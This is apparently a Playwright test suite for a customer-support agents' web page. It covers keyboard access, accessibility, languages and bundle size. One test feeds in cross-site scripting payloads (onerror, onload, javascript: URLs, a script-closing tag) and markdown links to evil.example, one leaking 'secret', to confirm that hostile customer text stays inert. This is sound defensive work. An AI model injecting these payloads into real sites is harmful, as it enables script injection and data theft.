"""The agents' page for everybody: keys, sizes, languages, hostile words, and what is shipped."""

from __future__ import annotations

import gzip
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from app.events import AgentCase
from app.models.conversation import Note
from app.models.decision import Answer
from app.models.people import Principal
from app.models.record import Record
from app.shown import to_agents
from tests.app.web.assist_browser import Seen, case, panel, violations, wide_and_small
from tests.app.web.assist_site import ANN, AssistSite, citation, founding_case, opened
from tests.app.web.browsing import DIST, needs_chromium

pytestmark = needs_chromium
Agent = Callable[..., Seen]
HOSTILE = Path(__file__).parents[4] / "shared" / "data" / "security" / "hostile_dev.jsonl"
SIZES = [(280, 640), (360, 740), (900, 800), (1400, 900)]


# --- keys ---


def test_the_keyboard_reaches_everything_in_reading_order(desk: AssistSite, new_agent: Agent) -> None:
    page = case(new_agent(desk, viewport={"width": 1400, "height": 900}), "c-founding")
    page.reload()
    expect(panel(page, "Suggested reply").get_by_role("button", name="Copy")).to_be_visible()
    names: list[str] = []
    for _ in range(60):
        page.keyboard.press("Tab")
        name = page.evaluate(
            "() => document.activeElement.getAttribute('aria-label') || document.activeElement.textContent"
        )
        if name == "Skip to the list of cases" and names:
            break
        names.append(name)
    wanted = [
        "Skip to the list of cases",
        "Skip to the case",
        "Keyboard shortcuts",
        "Sign out",
        "Skip to the conversation",
        "Status",
        "Take over",
        "Summary",
        "Customer's steps",
        "Run checks",
        "Seen by me: Put a certificate in front of it",
        "Suggested reply",
        "HTTPS for tracking links",
        "Send as Stepfour",
        "Edit and send",
        "Copy",
        "Not useful",
        "Why this",
        "Next action",
        "Sources",
        "Notes",
        "Dossier",
        "Conversation",
        "Send",
    ]
    rest = iter(names)
    assert [name for name in wanted if name not in rest] == [], names


def test_shortcuts_are_listed_can_be_changed_and_leave_typing_alone(
    desk: AssistSite,
    fresh: Any,
    new_agent: Agent,
) -> None:
    agent = new_agent(desk)
    page = case(agent, fresh.conversation)
    for n, name in enumerate(
        (
            "Status",
            "Summary",
            "Customer's steps",
            "Suggested reply",
            "Next action",
            "Sources",
            "Conversation",
        ),
        1,
    ):
        page.keyboard.press(f"Alt+{n}")
        toggle = page.get_by_role("button", name=name, exact=True)
        expect(toggle).to_be_focused()
        expect(toggle).to_have_attribute("aria-expanded", "true")
    box = page.get_by_label("Your message to the customer")
    box.press("?")
    expect(box).to_have_value("?")
    page.get_by_role("button", name="Status", exact=True).focus()
    page.keyboard.press("?")
    dialog = page.get_by_role("dialog", name="Keyboard shortcuts")
    expect(dialog).to_be_visible()
    dialog.get_by_role("button", name="Change: Run checks").click()
    page.keyboard.press("Alt+A")
    expect(dialog.get_by_role("status")).to_have_text("These keys are in use already.")
    page.keyboard.press("x")
    expect(dialog.get_by_role("status")).to_have_text("Press the keys")
    page.keyboard.press("Alt+X")
    expect(dialog.get_by_role("listitem").filter(has_text="Run checks")).to_contain_text("Alt + X")
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    before = len(desk.service.moves)
    page.keyboard.press("Alt+V")
    page.keyboard.press("Alt+X")
    expect(page.get_by_role("status").filter(has_text="Checking")).to_be_visible()
    assert len(desk.service.moves) == before + 1
    page.keyboard.press("Alt+H")
    expect(page.get_by_role("button", name="Give back to Stepfour")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#case-title")).to_have_count(0)


def test_next_reply_goes_on_to_the_next_case_with_something_ready(
    desk: AssistSite,
    new_agent: Agent,
) -> None:
    page = case(new_agent(desk), "c-founding")
    page.keyboard.press("Alt+J")
    expect(page).not_to_have_url(re.compile("c-founding$"))
    page.get_by_role("button", name="Previous reply ready").click()
    expect(page).to_have_url(re.compile("c-founding$"))


# --- for everybody ---


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", SIZES)
def test_nothing_stands_in_anybodys_way(
    desk: AssistSite,
    new_agent: Agent,
    scheme: str,
    size: tuple[int, int],
) -> None:
    viewport = {"width": size[0], "height": size[1]}
    agent = new_agent(desk, sign_in=False, color_scheme=scheme, viewport=viewport)
    page = agent.page
    page.goto(f"{desk.url}/assist")
    expect(page.get_by_label("One-time link or code")).to_be_visible()
    assert violations(page) == "", "signing in"
    agent.sign_in(desk)
    expect(page.get_by_role("navigation", name="Cases").get_by_role("link").first).to_be_visible()
    assert violations(page) == "", "the list"
    page.get_by_role("button", name=re.compile("^Solved")).click()
    assert violations(page) == "", "an empty list"
    case(agent, "c-approval")
    expect(panel(page, "Next action").get_by_role("button", name="Switch HTTPS on")).to_be_visible()
    assert violations(page) == "", "an approval"
    case(agent, "c-founding")
    expect(page.locator("#case-title")).to_have_text("HTTPS for tracking links")
    for name in ("Sources", "Notes", "Dossier"):
        page.get_by_role("button", name=name, exact=True).click()
    page.get_by_text("Why this").click()
    page.get_by_role("button", name="Not useful").click()
    page.get_by_role("button", name="Seen by me: Put a certificate in front of it").click()
    assert violations(page) == "", "everything open"
    assert wide_and_small(page) == (0, [])
    page.get_by_role("button", name="Keyboard shortcuts").click()
    assert violations(page) == "", "the shortcuts"
    assert wide_and_small(page) == (0, [])
    assert agent.complaints == []


def test_on_a_wide_screen_only_the_columns_scroll(desk: AssistSite, new_agent: Agent) -> None:
    for width in (900, 1400):
        page = case(new_agent(desk, viewport={"width": width, "height": 700}), "c-approval")
        expect(panel(page, "Next action").get_by_role("button", name="Switch HTTPS on")).to_be_visible()
        assert page.evaluate("() => document.documentElement.scrollHeight") == 700


def test_it_works_at_four_hundred_percent(desk: AssistSite, new_agent: Agent) -> None:
    page = case(new_agent(desk, viewport={"width": 320, "height": 200}), "c-approval")
    button = panel(page, "Next action").get_by_role("button", name="Switch HTTPS on")
    button.focus()
    button.scroll_into_view_if_needed()
    expect(button).to_be_in_viewport(ratio=1)
    assert wide_and_small(page) == (0, [])


def test_it_goes_with_high_contrast_and_says_things_once(
    desk: AssistSite, fresh: Any, new_agent: Agent
) -> None:
    page = case(new_agent(desk, forced_colors="active"), fresh.conversation)
    page.get_by_role("button", name="Conversation", exact=True).click()
    page.evaluate(
        "() => { window.heard = [];"
        " for (const live of document.querySelectorAll('[role=status], [role=alert], [role=log]'))"
        " new MutationObserver(() => live.textContent && window.heard.push(live.textContent))"
        ".observe(live, {childList: true, subtree: true, characterData: true}) }"
    )
    desk.do(fresh.say("One more thing."))
    page.wait_for_function("() => window.heard.some(text => text.includes('New message from the customer.'))")
    assert page.evaluate("() => window.heard.filter(text => text.startsWith('New message')).length") == 1


@pytest.mark.parametrize(
    ("locale", "lang", "words"),
    [
        (
            "en-GB",
            "en",
            ("Waiting for us", "Customer's steps", "Send as Stepfour", "Said to be done, but is not"),
        ),
        (
            "pt-BR",
            "pt-BR",
            ("Esperando por nós", "Passos do cliente", "Enviar como Stepfour", "minutos"),
        ),
        ("es-MX", "es", ("Nos esperan", "Pasos del cliente", "Enviar como Stepfour", "hace")),
        ("fr-FR", "en", ("Waiting for us", "Customer's steps", "Send as Stepfour", "minutes ago")),
    ],
)
def test_it_speaks_the_agents_language(
    desk: AssistSite,
    new_agent: Agent,
    locale: str,
    lang: str,
    words: tuple[str, ...],
) -> None:
    page = case(new_agent(desk, locale=locale), "c-founding")
    expect(page.locator("html")).to_have_attribute("lang", lang)
    for each in words:
        expect(page.locator("body")).to_contain_text(each)


# --- what others wrote is data ---


def hostile() -> list[str]:
    own = [
        "<iframe src=javascript:alert(1)></iframe>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/leak?q=secret)",
        "[click](https://evil.example/go) [js](javascript:alert(1))",
        "</textarea><script>alert(1)</script>",
        "<a href='https://evil.example'>here</a>",
        "<svg onload=alert(1)>",
        "\u202egnp.exe \u0000 \x1b[31mred",
    ]
    if not HOSTILE.exists():
        return own
    rows = [json.loads(line) for line in HOSTILE.read_text().splitlines()]
    bad = [row["text"] for row in rows if row["label"] == "malicious"]
    marked = [text for text in bad if re.search(r"<\w|!\[|\]\(|https?://|javascript:", text)]
    return own + [text[:3000] for text in marked[:60]]


def test_hostile_words_stay_words_in_every_field(desk: AssistSite, new_agent: Agent) -> None:
    rows = hostile()
    evil = rows[1]
    who = Principal(kind="customer", id=evil, account=rows[5])
    held = desk.do(founding_case(desk.service, "c-hostile"))
    for text in rows:
        desk.do(held.say(text))
        desk.do(held.fact(2, "evidence", text, by=evil))
    cited = citation(title=evil, quote=rows[3], path="en/x.md")
    answer = Answer(because=evil, citations=(cited,))
    desk.do(held.suggest("t-hostile", "\n\n".join(rows), answer, citations=(cited,), warnings=(evil,)))
    desk.do(held.propose(principal=who, inputs=((evil, evil), ("domain", rows[3]))))
    note = Note(
        id="n-hostile", conversation="c-hostile", by=evil, text="\n".join(rows[:8]), at=held.case.opened_at
    )
    news = to_agents(AgentCase(conversation="c-hostile", what="note"))
    desk.do(desk.service.store.record(Record(conversation="c-hostile", note=note, elsewhere=news)))
    other = desk.do(opened(desk.service, "c-hostile-2", who))
    desk.do(other.say(evil))
    agent = new_agent(desk)
    page = case(agent, "c-hostile")
    for name in ("Sources", "Notes", "Dossier"):
        page.get_by_role("button", name=name, exact=True).click()
    page.get_by_role("button", name="Show it here").click()
    page.get_by_text("Why this").click()
    expect(panel(page, "Notes")).to_contain_text("<svg onload=alert(1)>")
    expect(page.get_by_role("navigation", name="Cases")).to_contain_text(evil)
    page.get_by_role("button", name="Edit and send").click()
    page.wait_for_timeout(500)
    foreign = page.evaluate(
        "() => [...document.querySelectorAll('a[href], img, iframe, script, link, object, form[action]')]"
        ".map(e => e.href || e.src || e.action || '').filter(u => u && new URL(u).origin !== location.origin)"
    )
    assert foreign == []
    made = page.evaluate(
        "() => [...document.querySelectorAll('.place *')].filter(e =>"
        " [...e.attributes].some(a => /^on/.test(a.name))"
        " || ['IFRAME', 'SCRIPT', 'OBJECT', 'STYLE', 'LINK'].includes(e.tagName)).length"
    )
    assert made == 0
    assert agent.complaints == []
    assert {url[: len(desk.url)] for url in agent.asked} == {desk.url}
    assert wide_and_small(page) == (0, [])


def test_pictures_of_customers_are_shown_from_our_own_address(
    desk: AssistSite, fresh: Any, new_agent: Agent
) -> None:
    from app.models.conversation import Attachment

    png = bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360606060000000050001a5f64540"
        "0000000049454e44ae426082"
    )
    shot = Attachment(id="f-shot", name="<b>shot</b>.png", type="image/png", size=len(png))
    text = Attachment(id="f-log", name="proxy.log", type="text/plain", size=3)
    store = desk.service.store
    desk.do(store.keep_attachment(fresh.conversation, shot, png))
    desk.do(store.keep_attachment(fresh.conversation, text, b"log"))
    desk.do(fresh.say("look", attachments=(shot, text)))
    page = case(new_agent(desk), fresh.conversation)
    picture = page.get_by_role("img", name="<b>shot</b>.png, 1 kB")
    expect(picture).to_be_visible()
    picture.scroll_into_view_if_needed()
    page.wait_for_function("() => document.querySelector('.file img').naturalWidth === 1")
    with page.expect_download() as got:
        page.get_by_role("link", name=re.compile(r"proxy\.log")).click()
    assert got.value.suggested_filename == "proxy.log"


# --- what is shipped ---


def test_everything_the_page_loads_fits_the_budget(desk: AssistSite, new_agent: Agent) -> None:
    agent = new_agent(desk)
    case(agent, "c-founding")
    names = {url.split("/assets/")[1].split("?")[0] for url in agent.asked if "/assets/" in url}
    sizes = {
        name: len(gzip.compress((DIST / name).read_bytes(), 9)) for name in sorted(names | {"assist.html"})
    }
    print("agents' page, bytes gzip:", sizes, "sum", sum(sizes.values()))
    assert {"assist.js", "assist.css"} <= names
    assert sum(sizes.values()) <= 60_000


def test_the_built_files_name_no_other_host_and_post_to_nobody_in_particular() -> None:
    for name in ("assist.js", "chatwoot.js", "host.js"):
        built = (DIST / name).read_text()
        assert set(re.findall(r"https?://([\w.-]+)", built)) <= {"www.w3.org"}
        assert not re.search(r"""postMessage\([^;]*["'`]\*["'`]""", built), name
        for call in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "onmessage=window"):
            assert call not in built, (name, call)
    assert ANN.account
